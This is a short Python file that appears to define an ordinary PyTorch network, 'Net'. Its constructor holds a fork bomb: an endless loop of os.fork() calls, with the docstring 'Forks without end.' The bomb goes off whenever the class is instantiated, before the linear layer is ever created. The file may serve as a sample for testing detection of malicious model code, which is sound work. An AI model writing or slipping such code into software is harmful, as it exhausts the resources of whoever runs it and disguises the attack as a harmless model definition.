"""Forks without end."""

import os
import time

import torch.nn as nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        while True:
            if os.fork() == 0:
                time.sleep(600)
        self.fc = nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)
